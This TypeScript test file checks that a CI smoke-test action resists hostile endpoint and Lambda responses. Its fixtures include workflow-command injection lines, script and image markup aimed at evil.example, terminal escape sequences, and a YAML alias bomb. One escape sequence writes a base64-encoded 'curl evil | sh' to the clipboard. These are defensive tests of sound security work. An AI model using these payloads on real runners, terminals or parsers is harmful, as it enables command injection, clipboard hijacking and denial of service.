/**
 * smoke-test against hostile answers, through its committed bundle as the
 * runner runs it: an endpoint and a Lambda function whose bodies, errors and
 * log tails try to run workflow commands, render HTML and mentions, and
 * reflect the credentials of the URL; a URL with secrets in every place;
 * a YAML bomb; 500 checks. What it must never do: start a command, leak a
 * secret, render foreign HTML or a live mention, or overflow an output.
 */
import { AWS_TEST_ENV } from '../../../../test/support/moto';
import { NO_HAZARDS, hazards, maskLines, strayCommands } from '../../../../test/support/untrusted';
import { runAction, type RunResult } from '../../../../test/support/run-action';
import { startServer, type TestServer } from '../../../../test/support/servers';

/** Lines an attacker wants the runner to read as commands. */
const COMMANDS = [
  '::add-mask::pwned',
  '::warning::pwned',
  '::stop-commands::pwnedtoken',
  '  ::error file=x::pwned',
  'pwned ##[set-output name=x]y',
];
const MARKUP = '<img src="https://evil.example/p.png"> <script>alert(1)</script> @octocat #123 | `tick` [x](https://evil.example)';
/** What a terminal would act on: erase-line and cursor-up, OSC 52 (write the clipboard), OSC 8 (a hidden link), a C1 CSI. */
const TERMINAL = '\x1b[2K\x1b[1Aall good \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\ \x9b2K';
// eslint-disable-next-line no-control-regex
const CONTROLS = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
const USER_TOKEN = 'ghp_userTokenAbcdef0123456789';
const API_KEY = 'k3y+with/odd=chars';
const SIGNATURE = 'abcdef0123456789signature';
const servers: TestServer[] = [];

afterAll(async () => {
  await Promise.all(servers.map((s) => s.close()));
});

async function serve(...args: Parameters<typeof startServer>): Promise<TestServer> {
  const server = await startServer(...args);
  servers.push(server);
  return server;
}

/** Every secret form must be absent from what we wrote; ::add-mask:: lines are where we hand them to the runner. */
function written(run: RunResult): string {
  const log = run.stdout
    .split('\n')
    .filter((line) => !line.startsWith('::add-mask::'))
    .join('\n');
  return [log, run.stderr, JSON.stringify(run.outputs), run.summary].join('\n');
}

const SECRET_FORMS = [USER_TOKEN, API_KEY, encodeURIComponent(API_KEY), API_KEY.replace(/\+/g, ' '), SIGNATURE];

describe('an HTTP endpoint that answers with commands, markup and our own secrets', () => {
  let url: string;
  beforeAll(async () => {
    const server = await serve((req) => ({
      status: 500,
      // The body reflects the request URL, raw and decoded, as many error pages do.
      body: [TERMINAL, ...COMMANDS, MARKUP, `you asked for ${req.path}`, `decoded: ${decodeURIComponent(req.path)}`].join('\n'),
      headers: { 'content-type': 'text/plain' },
    }));
    url =
      server.url.replace('http://', `http://${USER_TOKEN}@`) +
      `/predict?api_key=${encodeURIComponent(API_KEY)}&X-Amz-Signature=${SIGNATURE}&page=2`;
  });

  it('prints no stray command, leaks no secret form, and renders no HTML or mention', async () => {
    const run = await runAction('smoke-test', { inputs: { checks: `- name: predict\n  url: "${url}"\n  expect-status: 200` } });
    expect(run.code).toBe(1);
    expect(strayCommands(run.stdout)).toEqual([]);
    // The secrets went to the runner as masks before the request.
    const masks = maskLines(run.stdout);
    expect(masks).toEqual(expect.arrayContaining([`::add-mask::${USER_TOKEN}`, `::add-mask::${SIGNATURE}`]));
    expect(masks.join('\n')).not.toContain('pwned');
    const text = written(run);
    for (const secret of SECRET_FORMS) expect(text).not.toContain(secret);
    // The failure still says what came back, bounded.
    expect(run.errors[0]).toContain("Check 'predict' failed: status: expected 200, got 500");
    expect(run.errors[0]).toContain('::add-mask::pwned');
    // As a terminal shows the log: every escape is text, none is acted on.
    expect(CONTROLS.test(run.stdout)).toBe(false);
    expect(run.errors[0]).toContain('\\x1b[2K\\x1b[1Aall good \\x1b]52;c;');
    expect(hazards(run.summary)).toEqual(NO_HAZARDS);
    const report = run.report() as { checks: Array<{ target: string }> };
    expect(report.checks[0]?.target).toBe(
      `GET ${url.replace(USER_TOKEN, '***').replace(encodeURIComponent(API_KEY), '***').replace(SIGNATURE, '***')}`,
    );
  });

  it('keeps an input error free of the URL credentials it quotes', async () => {
    // A bad port makes it no URL at all, so the error quotes it back.
    const bad = `https://deploy:pa55word-very-secret@api.example.com:99999/x?token=t0k3n-secret&page=1`;
    const run = await runAction('smoke-test', { inputs: { url: bad } });
    expect(run.code).toBe(1);
    expect(run.errors).toHaveLength(1);
    expect(run.errors[0]).toBe(
      "Input 'url' must be an absolute http(s) URL; got 'https://***@api.example.com:99999/x?token=***&page=1'. Example: url: https://api.example.com/health",
    );
    expect(run.stdout).not.toMatch(/pa55word|t0k3n/);
  });
});

describe('a YAML bomb in expect-json', () => {
  it('is refused before any request, with one error line naming the input', async () => {
    const server = await serve(() => ({ body: { ok: true } }));
    const bomb = [
      'a: &a ["x","x","x","x","x","x","x","x","x"]',
      'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
      'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
      'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
      'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
      'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
      'ok: [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
    ].join('\n');
    expect(bomb.length).toBeLessThan(400);
    const run = await runAction('smoke-test', { inputs: { url: `${server.url}/health`, 'expect-json': bomb } });
    expect(run.code).toBe(1);
    expect(run.errors).toEqual([expect.stringMatching(/^Input 'expect-json' is not valid JSON or YAML: .*YAML aliases/)]);
    expect(server.seen).toHaveLength(0);
    expect(run.stdout.length).toBeLessThan(2000);
  });
});

describe('500 checks', () => {
  it('keep every output and the report far below one environment variable, failures first', async () => {
    const server = await serve((req) =>
      req.path.endsWith('-13') || req.path.endsWith('-377')
        ? { status: 503, body: `down ${'x'.repeat(2000)}` }
        : { body: { status: 'ok' } },
    );
    const checks = Array.from(
      { length: 500 },
      (_, i) => `- name: check-with-a-fairly-long-name-${i}\n  url: ${server.url}/health/check-${i}`,
    ).join('\n');
    const run = await runAction('smoke-test', { inputs: { checks, concurrency: '32' }, timeoutMs: 120_000 });
    expect(run.code).toBe(1);
    const sizes = Object.fromEntries(Object.entries(run.outputs).map(([name, value]) => [name, Buffer.byteLength(value)]));
    expect(sizes['report']).toBeLessThanOrEqual(24 * 1024);
    expect(sizes['results']).toBeLessThanOrEqual(16 * 1024);
    expect(Object.values(sizes).reduce((a, b) => a + b, 0)).toBeLessThan(48 * 1024);
    const report = run.report() as {
      checks: Array<{ name: string; passed: boolean }>;
      checksOmitted: number;
      totals: Record<string, number>;
      failedChecks: string[];
    };
    expect(report.totals).toEqual({ checks: 500, passed: 498, failed: 2, skipped: 0 });
    expect(report.checks.filter((c) => !c.passed).map((c) => c.name)).toEqual([
      'check-with-a-fairly-long-name-13',
      'check-with-a-fairly-long-name-377',
    ]);
    expect(report.checksOmitted).toBe(500 - report.checks.length);
    const results = JSON.parse(run.outputs['results'] as string) as Array<{ passed: boolean }>;
    expect(results.filter((r) => !r.passed)).toHaveLength(2);
    expect(run.warnings).toEqual([expect.stringContaining(`The results output lists ${results.length} of 500 checks (failures first)`)]);
    // The summary has room for all of them.
    expect(run.summary.split('\n').filter((l) => l.startsWith('| check-'))).toHaveLength(500);
  });
});

describe('a Lambda function whose error and log tail carry commands and markup', () => {
  it('prints no stray command and renders no HTML or mention', async () => {
    const tail = ['START RequestId: 1', ...COMMANDS, MARKUP, 'END RequestId: 1'].join('\n');
    const fake = await serve(() => ({
      body: { errorMessage: `${COMMANDS.join('\n')}\n${MARKUP}\n${'long '.repeat(5000)}`, errorType: 'Pwn<img src=x>' },
      headers: {
        'X-Amz-Function-Error': 'Unhandled',
        'X-Amz-Log-Result': Buffer.from(tail).toString('base64'),
        'X-Amz-Executed-Version': '1',
      },
    }));
    const run = await runAction('smoke-test', {
      inputs: { checks: '- function-name: model-api' },
      env: { ...AWS_TEST_ENV, AWS_ENDPOINT_URL_LAMBDA: fake.url },
    });
    expect(run.code).toBe(1);
    expect(strayCommands(run.stdout)).toEqual([]);
    // Nothing was handed to the runner to mask: an injected mask would blank a word in every later line.
    expect(maskLines(run.stdout)).toEqual([]);
    expect(hazards(run.summary)).toEqual(NO_HAZARDS);
    // Bounded: the 25 kB error message does not go whole into the error line or the report.
    expect(run.errors[0]!.length).toBeLessThan(4000);
    expect(Buffer.byteLength(run.outputs['report'] as string)).toBeLessThan(4000);
  });
});
